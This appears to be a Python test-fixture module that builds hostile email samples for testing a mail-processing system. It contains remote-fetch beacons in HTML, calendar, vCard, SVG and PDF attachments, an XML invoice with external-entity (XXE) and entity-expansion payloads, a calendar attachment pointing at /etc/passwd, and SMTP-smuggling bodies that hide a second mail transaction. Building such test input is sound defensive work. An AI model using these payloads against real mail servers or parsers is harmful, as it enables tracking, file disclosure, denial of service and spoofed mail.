"""Mails that want to be more than mail: they call home, smuggle others, or hide what they say."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from email.policy import SMTP

OFFICE, WEBER, HOURS = (
    "sekretariat@firma.test",
    "Sabine Weber <weber@kunde.test>",
    "Guten Tag, wann haben Sie geöffnet?",
)

PAGE = """<!DOCTYPE html SYSTEM "{url}/dtd"><html manifest="{url}/manifest"><head><base href="{url}/base/">
<link rel="stylesheet preload prefetch dns-prefetch" href="{url}/css"><meta http-equiv="refresh" content="0;url={url}/go">
<style>@import "{url}/import"; @font-face {{font-family: x; src: url({url}/font)}}
body {{background: url({url}/background)}}</style><script src="{url}/script"></script></head>
<body background="{url}/body" onload="fetch('{url}/fetch')"><p>Guten Tag, wann haben Sie geöffnet?</p>
<img src="{url}/img" srcset="{url}/srcset 2x"><picture><source srcset="{url}/source"></picture>
<p style="background-image:url({url}/style)">x</p><iframe src="{url}/frame"></iframe><object data="{url}/object"></object>
<embed src="{url}/embed"><video src="{url}/video" poster="{url}/poster" autoplay></video><audio src="{url}/audio"></audio>
<svg><image href="{url}/svg"/><use href="{url}/use#x"/></svg><table background="{url}/table"><tr><td>x</td></tr></table>
<input type="image" src="{url}/input"><a href="{url}/link" ping="{url}/ping">hier</a>
<form action="{url}/form"><button>x</button></form></body></html>
"""
CALENDAR = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//x//x
METHOD:{method}
SOURCE;VALUE=URI:{url}/source
URL:{url}/calendar
IMAGE;VALUE=URI:{url}/image
BEGIN:VTIMEZONE
TZID:Fremd
TZURL:{url}/zone
BEGIN:STANDARD
DTSTART:19700101T000000
TZOFFSETFROM:+0100
TZOFFSETTO:+0100
END:STANDARD
END:VTIMEZONE
BEGIN:VEVENT
UID:lure@kunde.test
DTSTAMP:20260101T000000Z
DTSTART;TZID=Fremd:20300115T100000
DTEND;TZID=Fremd:20300115T110000
SUMMARY;ALTREP="{url}/altrep":Besprechung
DESCRIPTION;ALTREP="CID:x":{url}/description
ORGANIZER;DIR="{url}/directory";CN=Weber:mailto:weber@kunde.test
ATTENDEE;RSVP=TRUE:mailto:anna@firma.test
ATTENDEE;RSVP=TRUE:mailto:sekretariat@firma.test
ATTACH:{url}/attach
ATTACH;FMTTYPE=application/pdf:file:///etc/passwd
CONFERENCE;VALUE=URI:{url}/conference
STRUCTURED-DATA;VALUE=URI:{url}/structured
BEGIN:VALARM
ACTION:AUDIO
TRIGGER:-PT15M
ATTACH;VALUE=URI:{url}/alarm
END:VALARM
BEGIN:VALARM
ACTION:PROCEDURE
TRIGGER:-PT15M
ATTACH;VALUE=URI:{url}/procedure
END:VALARM
END:VEVENT
END:VCALENDAR
""".replace("\n", "\r\n")
VCARD = """BEGIN:VCARD
VERSION:4.0
FN:Sabine Weber
PHOTO:{url}/photo
LOGO:{url}/logo
SOUND:{url}/sound
KEY:{url}/key
SOURCE:{url}/source
URL:{url}/url
FBURL:{url}/free
CALURI:{url}/calendar
END:VCARD
"""
XML = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}/xsl"?>
<!DOCTYPE Invoice SYSTEM "{url}/dtd" [<!ENTITY a SYSTEM "{url}/entity"><!ENTITY % b SYSTEM "{url}/parameter"> %b;
<!ENTITY c "xxxxxxxxxx"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:xi="http://www.w3.org/2001/XInclude"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}/schema">
<xi:include href="{url}/include"/>&a;&e;</Invoice>
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/svg"/><script href="{url}/script"/></svg>"""
PDF = """%PDF-1.7
1 0 obj <</Type /Catalog /OpenAction <</S /URI /URI ({url}/open)>> /AA <</O <</S /SubmitForm /F ({url}/form)>>>>>> endobj
2 0 obj <</Type /Filespec /FS /URL /F ({url}/factur-x.xml) /AFRelationship /Data>> endobj
%%EOF
"""
LADEN = (
    (CALENDAR, "text/calendar", "termin.ics"),
    (VCARD, "text/vcard", "weber.vcf"),
    (XML, "application/xml", "rechnung.xml"),
    (SVG, "image/svg+xml", "bild.svg"),
    (PDF, "application/pdf", "plan.pdf"),
    ("[InternetShortcut]\nURL={url}/short", "application/octet-stream", "link.url"),
)


def letter(subject: str, number: int = 1) -> EmailMessage:
    """An empty mail of a client's."""
    mail = EmailMessage(policy=SMTP)
    mail["From"], mail["To"], mail["Subject"] = WEBER, OFFICE, subject
    mail["Message-ID"] = f"<hostile.{number}@kunde.test>"
    return mail


def calling(url: str, number: int = 0) -> list[EmailMessage]:
    """Mails that name this address in every place from which some program somewhere would fetch it."""
    page = PAGE.format(url=url)
    question, laden, invited, elsewhere = (
        letter(subject, number + n) for n, subject in enumerate(("Frage", "Anlagen", "Einladung", "Anderswo"))
    )
    question.set_content(f"{HOURS}\n{url}/text\n")
    question.add_alternative(page, subtype="html")
    question["OpenPGP"], question["Content-Base"], laden["List-Help"] = f"url={url}/key", f"{url}/base", f"<{url}/help>"
    laden.set_content(page, subtype="html")
    for content, kind, name in LADEN:
        main, _, sub = kind.partition("/")
        octets = content.format(url=url, method="PUBLISH").encode()
        laden.add_attachment(octets, maintype=main, subtype=sub, filename=name)
    invitation = CALENDAR.format(url=url, method="REQUEST")
    invited.set_content("Siehe Anlage.")
    invited.add_alternative(invitation, subtype="calendar", params={"method": "REQUEST"})
    elsewhere.set_content("x")
    elsewhere.replace_header("Content-Type", f'message/external-body; access-type=URL; url="{url}/body"')
    return [question, laden, invited, elsewhere]


# --- ends of a mail that are none (RFC 5321 section 4.1.1.4 knows one only)

ENDS = tuple(f"{a}.{b}" for a in ("\r\n", "\n", "\r") for b in ("\r\n", "\n", "\r"))
SECOND = "MAIL FROM:<anna@firma.test>\r\nRCPT TO:<ben@firma.test>\r\nDATA\r\nSubject: Auftrag\r\n\r\nx"
SMUGGLED = "".join(f"{end}{SECOND}{end}" for end in ENDS)


def smuggling(subject: str, number: int) -> list[bytes]:
    """A mail in a mail, behind each end that some server takes for one, in each coding and in the headers."""
    text = f"{HOURS}\r\n{SMUGGLED}\r\nGruß\r\n"
    word = base64.b64encode(f"{subject} {SMUGGLED[:25]}".encode()).decode()
    raws = []
    for n, (coding, body) in enumerate({
        "8bit": text.encode(),
        "base64": base64.encodebytes(text.encode()).replace(b"\n", b"\r\n"),
        "quoted-printable": b"".join(b"=%02X" % o + (b"=\r\n" if at % 20 == 19 else b"") for at, o in enumerate(text.encode())),
    }.items()):  # fmt: skip
        head = (
            f"From: =?utf-8?b?{word}?= <weber@kunde.test>\r\nTo: {OFFICE}\r\nSubject: {subject} =?utf-8?b?{word}?=\r\n"
            f"Message-ID: <smuggling.{number + n}@kunde.test>\r\nContent-Type: text/plain; charset=utf-8\r\n"
            f"MIME-Version: 1.0\r\nContent-Transfer-Encoding: {coding}\r\n\r\n"
        )
        raws.append(head.encode() + body)
    return raws


# --- what nobody here can read

ARMOUR = "-----BEGIN PGP MESSAGE-----\n\nhQEMA1x2n0b7m2V2AQf/Yc3WannHabenSieOffen0aGkK\nPassGutMontag10Uhr==\n=abcd\n-----END PGP MESSAGE-----\n"
SEALED = {
    "PGP/MIME": (
        'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\n'
        "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\n"
        f"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n{ARMOUR}\r\n--b--\r\n"
    ),
    "PGP/MIME with a list's footer": (
        "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n"
        'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\n'
        "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\n"
        f"Content-Type: application/octet-stream\r\n\r\n{ARMOUR}\r\n--b--\r\n"
        f"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{HOURS}\r\n--a--\r\n"
    ),
    "PGP in the text": f"Content-Type: text/plain; charset=utf-8\r\n\r\n{HOURS}\r\n\r\n{ARMOUR}",
    "PGP in a page": (
        f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>{HOURS}</p><pre>{ARMOUR}</pre><div>Gruß</div>\r\n"
    ),
    "S/MIME enveloped": (
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
        "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=smime.p7m\r\n\r\n"
        "MIIBHgYJKoZIhvcNAQcDoIIBDzCCAQsCAQAxgcAwgb0CAQAwJjASMRAwDgYDVQQDDAdD\r\n"
    ),
    "S/MIME compressed": (
        "Content-Type: application/pkcs7-mime; smime-type=compressed-data; name=smime.p7z\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\nMIIBHgYLKoZIhvcNAQkQAQmgggENMIIBCQIBADANBgsqhkiG9w0BCRADCA==\r\n"
    ),
}


def sealed(way: str, number: int) -> bytes:
    """A mail that only its reader's own program can open; its subject alone would be answered."""
    head = f"From: {WEBER}\r\nTo: {OFFICE}\r\nSubject: Wann haben Sie offen?\r\nMessage-ID: <sealed.{number}@kunde.test>\r\n"
    return f"{head}MIME-Version: 1.0\r\n{SEALED[way]}".replace("\r\n", "\n").replace("\n", "\r\n").encode()
